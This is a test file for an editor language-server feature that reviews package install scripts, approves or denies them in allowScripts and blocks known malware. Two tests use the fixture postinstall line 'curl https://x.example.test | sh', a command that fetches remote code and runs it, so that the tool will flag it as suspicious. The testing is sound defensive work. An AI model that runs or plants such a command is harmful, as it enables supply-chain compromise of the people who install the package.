import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import type { HttpPort } from '../../server/src/engine/ports.ts';
import {
  type DecideScripts,
  type DecideScriptsResult,
  type ScriptChoice,
  type ScriptsList,
  type ScriptsResult,
  SERVER_COMMANDS,
} from '../../server/src/lsp/messages.ts';
import { osv } from '../unit/judge/rules/osv.ts';
import { indexOf, TEST_REGISTRY } from '../workspace.ts';
import { FOLDER, startClient, type TestClient } from './test-client.ts';

interface Given {
  readonly manager?: string;
  readonly manifest?: object;
  readonly scripts?: Readonly<Record<string, string | undefined>>;
  readonly at?: string;
}

/** A project of npm with installed packages, each with a postinstall script or none. */
function project({
  manager = 'npm@12.2.0',
  manifest = {},
  scripts = { aaa: 'node a.js', bbb: 'node b.js' },
  at = '',
}: Given = {}): Readonly<Record<string, string>> {
  const names = Object.keys(scripts);
  const dependencies = Object.fromEntries(names.map((name) => [name, '1.0.0']));
  const packages = Object.fromEntries(
    names.map((name) => [
      `node_modules/${name}`,
      {
        version: '1.0.0',
        resolved: `${TEST_REGISTRY}${name}/-/${name}-1.0.0.tgz`,
        ...(scripts[name] === undefined ? {} : { hasInstallScript: true }),
      },
    ]),
  );
  const files: Record<string, string> = {
    [`${at}package.json`]: `${JSON.stringify({ packageManager: manager, dependencies, ...manifest }, undefined, 2)}\n`,
    [`${at}package-lock.json`]: JSON.stringify({
      lockfileVersion: 3,
      packages: { '': { dependencies }, ...packages },
    }),
  };
  for (const [name, postinstall] of Object.entries(scripts)) {
    if (postinstall !== undefined)
      files[`${at}node_modules/${name}/package.json`] = JSON.stringify({
        ...{ name, version: '1.0.0', scripts: { postinstall } },
      });
  }
  return files;
}

const run = <Result>(client: TestClient, command: string, argument?: unknown): Promise<Result> =>
  client.connection.sendRequest('workspace/executeCommand', {
    command,
    arguments: argument === undefined ? [] : [argument],
  });

const list = (client: TestClient) => run<ScriptsResult>(client, SERVER_COMMANDS.listScripts);

async function listed(client: TestClient): Promise<ScriptsList> {
  const answer = await list(client);
  assert.ok('groups' in answer, JSON.stringify(answer));
  return answer;
}

const decide = (client: TestClient, argument: unknown) =>
  run<DecideScriptsResult>(client, SERVER_COMMANDS.decideScripts, argument);

function choiceOf({ groups }: ScriptsList, label: string, type: ScriptChoice['type']): ScriptChoice {
  const entry = groups.flatMap(({ entries }) => entries).find((one) => one.label === label);
  const choice = entry?.choices.find((one) => one.type === type);
  assert.ok(choice, `${label} ${type}: ${JSON.stringify(groups)}`);
  return choice;
}

function decisionIn(of: ScriptsList, label: string, type: ScriptChoice['type']): DecideScripts {
  const choice = choiceOf(of, label, type);
  assert.ok('arguments' in choice);
  return choice.arguments[0];
}

/** Returns the headings, each with its labels. */
const outline = ({ groups }: ScriptsList) =>
  groups.map(({ heading, entries }) => [heading, ...entries.map(({ label }) => label)]);

const manifestOf = (client: TestClient, at = '') => JSON.parse(client.textOf(`${FOLDER}/${at}package.json`));

describe('the list of install scripts', () => {
  test('has the unreviewed ones first, with what they do and what will be written', async () => {
    const scripts = { aaa: 'node a.js', bbb: 'curl https://x.example.test | sh', ccc: 'node c.js' };
    const manifest = { allowScripts: { 'ccc@1.0.0': true } };
    const client = await startClient({ files: project({ scripts, manifest }) });
    const answer = await listed(client);
    assert.equal(answer.summary, '2 packages have unreviewed install scripts.');
    assert.deepEqual(outline(answer), [
      ['workspace: 2 unreviewed', 'bbb 1.0.0', 'aaa 1.0.0'],
      ['workspace: decided', 'ccc 1.0.0'],
    ]);
    const [bbb, aaa] = answer.groups[0]!.entries;
    assert.deepEqual(
      [aaa!.description, aaa!.detail, aaa!.isAlarming],
      [...['unreviewed, npm 12 will skip it', 'postinstall: node a.js', false]],
    );
    assert.deepEqual(
      aaa!.choices.map(({ title }) => title),
      [
        'Approve the script of aaa 1.0.0: add "aaa@1.0.0": true to allowScripts',
        'Deny the scripts of aaa: add "aaa": false to allowScripts',
        'Open the lockfile entry',
        'Open the installed package.json',
      ],
    );
    assert.equal(bbb!.isAlarming, true);
    assert.equal(bbb!.choices[0]!.type, 'deny');
    assert.match(bbb!.detail, /^Suspicious: it downloads and runs remote code.*postinstall: curl /);
    assert.equal(answer.groups[1]!.entries[0]!.description, 'approved in allowScripts, runs on install');
    const opened = choiceOf(answer, 'ccc 1.0.0', 'open');
    assert.equal(opened.title, 'Open the decision in allowScripts');
    assert.ok('place' in opened);
    assert.equal(opened.place.uri, `${FOLDER}/package.json`);
    const line = client.textOf(opened.place.uri).split('\n')[opened.place.line]!;
    assert.ok(line.slice(opened.place.character).startsWith('"ccc@1.0.0"'), line);
    await client.close();
  });

  test('lists every project of every folder', async () => {
    const folders = [FOLDER, 'file:///other'];
    const client = await startClient({
      folders,
      files: {
        ...project({ at: 'shop/', scripts: { aaa: 'node a.js' } }),
        ...project({ at: 'file:///other/', scripts: { bbb: 'node b.js' }, manager: 'npm@11.19.0' }),
      },
    });
    const answer = await listed(client);
    assert.deepEqual(outline(answer).sort(), [
      ['other: 1 unreviewed', 'bbb 1.0.0'],
      ['workspace/shop: 1 unreviewed', 'aaa 1.0.0'],
    ]);
    assert.deepEqual(answer.groups.flatMap(({ entries }) => entries.map((one) => one.description)).sort(), [
      'unreviewed, npm 11.19 will run it with a notice',
      'unreviewed, npm 12 will skip it',
    ]);
    const done = await decide(client, decisionIn(answer, 'bbb 1.0.0', 'deny'));
    assert.deepEqual(done, { message: 'Wrote "bbb": false to allowScripts in package.json.' });
    assert.deepEqual(JSON.parse(client.textOf('file:///other/package.json')).allowScripts, { bbb: false });
    assert.equal(manifestOf(client, 'shop/').allowScripts, undefined);
    await client.close();
  });

  test('says that there is nothing to decide, and why', async () => {
    const nothing = await startClient({ files: project({ scripts: { plain: undefined } }) });
    assert.deepEqual(await list(nothing), {
      problem: 'No locked package is known to have an install script.',
    });
    await nothing.close();

    const denied = await startClient({
      files: project({ manifest: { allowScripts: { aaa: false, bbb: false } } }),
    });
    assert.equal((await listed(denied)).summary, 'Nothing to decide: 2 denied.');
    await denied.close();

    const empty = await startClient({ files: {} });
    assert.deepEqual(await list(empty), {
      problem: 'No package.json was found in the open folders, so nothing was checked.',
    });
    await empty.close();

    const unlocked = await startClient({ files: { 'package.json': '{}' } });
    assert.deepEqual(await list(unlocked), {
      problem:
        'No locked package is known to have an install script. workspace: not checked: no lockfile that can be read was found.',
    });
    await unlocked.close();
  });

  test('says of Yarn 1 that it runs all scripts or none, and offers no decision', async () => {
    const files = project({ scripts: { aaa: 'node a.js' } });
    const lock = `# yarn lockfile v1\n\n\naaa@1.0.0:\n  version "1.0.0"\n  resolved "${TEST_REGISTRY}aaa/-/aaa-1.0.0.tgz"\n`;
    const { 'package-lock.json': _, ...rest } = files;
    const manifest = JSON.stringify({ packageManager: 'yarn@1.22.22', dependencies: { aaa: '1.0.0' } });
    const client = await startClient({ files: { ...rest, 'package.json': manifest, 'yarn.lock': lock } });
    const answer = await listed(client);
    const how = 'Yarn 1 runs all scripts or none: review each, or install with ignore-scripts';
    assert.equal(answer.summary, `Nothing can be decided. ${how}.`);
    assert.deepEqual(outline(answer), [['workspace: no decision possible', 'aaa 1.0.0', 'Why']]);
    const [aaa, why] = answer.groups[0]!.entries;
    assert.equal(why!.detail, `${how}.`);
    assert.equal(aaa!.description, 'Yarn 1 will run it');
    assert.deepEqual(
      aaa!.choices.map(({ type }) => type),
      ['open', 'open'],
    );
    await client.close();
  });

  test('asks registries only where the folder is trusted, and says what is unknown', async () => {
    const files = project({ scripts: { aaa: 'node a.js' } });
    const { 'node_modules/aaa/package.json': _, ...uninstalled } = files;
    const asked: string[] = [];
    const http: HttpPort = {
      async get({ url }) {
        asked.push(new URL(url).pathname.slice(1));
        const versions = { '1.0.0': { scripts: { postinstall: 'node from-registry.js' } } };
        const body = JSON.stringify({ name: 'aaa', versions, 'dist-tags': { latest: '1.0.0' } });
        return { type: 'answer', status: 200, headers: new Map(), body };
      },
    };
    for (const trusted of [false, true]) {
      const client = await startClient({ files: uninstalled, initializationOptions: { trusted }, http });
      const answer = await listed(client);
      const detail = trusted ? 'postinstall: node from-registry.js' : 'script text unknown (lockfile)';
      assert.equal(answer.groups[0]!.entries[0]!.detail, detail);
      assert.equal(asked.includes('aaa'), trusted);
      await client.close();
    }
  });
});

test('cancelling skips the registries that have not answered', async () => {
  const { 'node_modules/aaa/package.json': _, ...files } = project({ scripts: { aaa: 'node a.js' } });
  const client = await startClient({
    files,
    initializationOptions: { trusted: true },
    http: {
      get: ({ url }) =>
        url.endsWith('/aaa')
          ? new Promise(() => {})
          : Promise.resolve({ type: 'failed', detail: 'no network' }),
    },
  });
  client.connection.onRequest('window/workDoneProgress/create', ({ token }: { token: string }) => {
    setTimeout(
      () => void client.connection.sendNotification('window/workDoneProgress/cancel', { token }),
      200,
    );
    return null;
  });
  const answer = await listed(client);
  assert.deepEqual(outline(answer), [['workspace: 1 unreviewed', 'aaa 1.0.0']]);
  await client.close();
});

describe('a decision in the list', () => {
  test('is what the quick fix writes, and the list then has it as decided', async () => {
    const client = await startClient({ files: project() });
    await client.open(`${FOLDER}/package.json`);
    const before = await listed(client);
    const done = await decide(client, decisionIn(before, 'aaa 1.0.0', 'approve'));
    assert.deepEqual(done, { message: 'Wrote "aaa@1.0.0": true to allowScripts in package.json.' });
    assert.deepEqual(manifestOf(client).allowScripts, { 'aaa@1.0.0': true });
    await client.close();

    const closed = await startClient({ files: project() });
    await decide(closed, decisionIn(await listed(closed), 'aaa 1.0.0', 'approve'));
    assert.deepEqual(outline(await listed(closed)), [
      ['workspace: 1 unreviewed', 'bbb 1.0.0'],
      ['workspace: decided', 'aaa 1.0.0'],
    ]);
    const again = await decide(closed, decisionIn(before, 'aaa 1.0.0', 'approve'));
    assert.deepEqual(again, { problem: 'aaa 1.0.0 is no longer unreviewed. Open the list again.' });
    await closed.close();
  });

  test('is written into a new file where the package manager reads another one', async () => {
    const manifest = JSON.stringify({ packageManager: 'pnpm@11.4.0', dependencies: { aaa: '1.0.0' } });
    const lock = `lockfileVersion: '9.0'

importers:

  .:
    dependencies:
      aaa:
        specifier: 1.0.0
        version: 1.0.0

packages:

  aaa@1.0.0:
    resolution: {integrity: sha512-2yyAR8qBkN3YuheJanUpWC5U3bb5osDywNB8RzDVlDwDHbocAJveqqj1u8+SVD7jkWT4yvsHCpWqqWqAxb0zCA==}

snapshots:

  aaa@1.0.0: {}
`;
    const { 'node_modules/aaa/package.json': installed = '' } = project();
    const files = {
      'package.json': manifest,
      'pnpm-lock.yaml': lock,
      'node_modules/aaa/package.json': installed,
    };
    const client = await startClient({ files });
    const answer = await listed(client);
    const [aaa] = answer.groups[0]!.entries;
    assert.equal(aaa!.description, 'unreviewed, pnpm 11 fails the install');
    const done = await decide(client, decisionIn(answer, 'aaa 1.0.0', 'approve'));
    assert.deepEqual(done, { message: 'Wrote aaa@1.0.0: true to allowBuilds in pnpm-workspace.yaml.' });
    assert.equal(client.textOf(`${FOLDER}/pnpm-workspace.yaml`), 'allowBuilds:\n  aaa@1.0.0: true\n');
    assert.equal((await listed(client)).summary, 'Nothing to decide: 1 approved.');
    await client.close();
  });

  test('approves at once all scripts that are shown, and no suspicious one', async () => {
    const scripts = { aaa: 'node a.js', bbb: 'curl https://x.example.test | sh', ccc: 'node c.js' };
    const client = await startClient({ files: project({ scripts }) });
    const label = 'Approve all 2 reviewed scripts';
    const answer = await listed(client);
    assert.equal(answer.groups[0]!.entries.at(-1)!.description, 'without 1 to be decided one by one');
    await decide(client, decisionIn(answer, label, 'approve'));
    assert.deepEqual(manifestOf(client).allowScripts, { 'aaa@1.0.0': true, 'ccc@1.0.0': true });
    await client.close();
  });

  test('removes all stale approvals', async () => {
    const allowScripts = { 'aaa@1.0.0': true, 'bbb@1.0.0': true, 'gone@1.0.0': true, lost: true };
    const client = await startClient({ files: project({ manifest: { allowScripts } }) });
    const answer = await listed(client);
    const choice = choiceOf(answer, 'Remove 2 stale approvals', 'prune');
    assert.equal(choice.title, 'Remove 2 stale approvals: gone@1.0.0, lost');
    const done = await decide(client, decisionIn(answer, 'Remove 2 stale approvals', 'prune'));
    assert.deepEqual(done, { message: 'Removed 2 stale approvals in package.json.' });
    assert.deepEqual(manifestOf(client).allowScripts, { 'aaa@1.0.0': true, 'bbb@1.0.0': true });
    await client.close();
  });

  test('never approves known malware', async () => {
    const records = [osv('MAL-2026-1', 'aaa', '', { versions: ['1.0.0'] })];
    const client = await startClient({ files: project(), ports: { advisories: () => indexOf(records) } });
    const answer = await listed(client);
    const aaa = answer.groups[0]!.entries.find(({ label }) => label === 'aaa 1.0.0')!;
    assert.deepEqual(
      aaa.choices.map(({ type }) => type),
      ['deny', 'open', 'open'],
    );
    assert.match(aaa.detail, /^Known malware\./);
    const request = { ...decisionIn(answer, 'aaa 1.0.0', 'deny'), type: 'approve' };
    assert.deepEqual(await decide(client, request), {
      problem: 'aaa 1.0.0 is known malware, so its script is not approved.',
    });
    await client.close();
  });

  test('is refused if it is not well formed, or about nothing that is locked', async () => {
    const client = await startClient({ files: project() });
    const uri = `${FOLDER}/package.json`;
    for (const argument of [
      undefined,
      'aaa',
      { type: 'approve', uri },
      { type: 'approve', uri, packages: [] },
      { type: 'run', uri, packages: [{ package: 'aaa', version: '1.0.0' }] },
      { type: 'approve', uri, packages: [{ package: 'aaa' }] },
    ])
      assert.deepEqual(await decide(client, argument), { problem: 'The decision is not valid.' });
    const other = { type: 'approve', uri, packages: [{ package: 'zzz', version: '1.0.0' }] };
    assert.ok('problem' in (await decide(client, other)));
    assert.equal(manifestOf(client).allowScripts, undefined);
    await client.close();
  });
});
